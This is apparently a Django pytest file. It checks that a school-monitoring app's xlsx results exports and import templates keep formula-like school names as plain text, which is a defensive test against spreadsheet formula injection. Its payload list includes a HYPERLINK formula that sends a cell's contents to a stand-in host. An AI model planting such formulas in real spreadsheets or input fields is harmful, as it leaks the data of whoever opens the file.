"""The results tables and the import templates as xlsx: a school's name that looks like a
formula stays text."""

import io

import openpyxl
import pytest
from django.urls import reverse

from . import results_data
from .factories import make_world

HOSTILE = ['=HYPERLINK("http://x?"&B3,"a")', "+1", "-1", "@SUM(A1)"]


def cells(response, sheet: str, column: int, min_row: int) -> list:
    content = b"".join(getattr(response, "streaming_content", None) or [response.content])
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [row[column] for row in book[sheet].iter_rows(min_row=min_row) if row[column].value]


@pytest.fixture
def world(db):
    world = make_world()
    results_data.load_small_file(world)
    return world


@pytest.mark.parametrize("name", HOSTILE)
def test_it_writes_a_school_name_that_looks_like_a_formula_as_text(client, world, name):
    world.school.short_name = name
    world.school.save()
    client.force_login(world.methodist)

    table = cells(client.get(reverse("monitoring:results_export")), "Результаты", 0, 4)
    school = reverse("monitoring:results_school_export", args=[world.school.pk])
    client.force_login(world.school_admin)
    figures = cells(client.get(school), "Показатели", 1, 4)

    for found in ([cell for cell in table if cell.value == name], figures[:1]):
        assert [(cell.value, cell.data_type, cell.hyperlink) for cell in found] == [
            (name, "s", None)
        ]


@pytest.mark.parametrize("layout", ["gia", "diagnostic"])
def test_it_lists_a_school_name_that_looks_like_a_formula_as_text_in_the_template(
    client, world, layout
):
    world.school.short_name = HOSTILE[0]
    world.school.save()
    client.force_login(world.methodist)

    response = client.get(reverse("monitoring:import_template", args=[layout]))

    names = cells(response, "Списки", 2, 2)
    assert HOSTILE[0] in [cell.value for cell in names]
    assert {cell.data_type for cell in names} == {"s"}
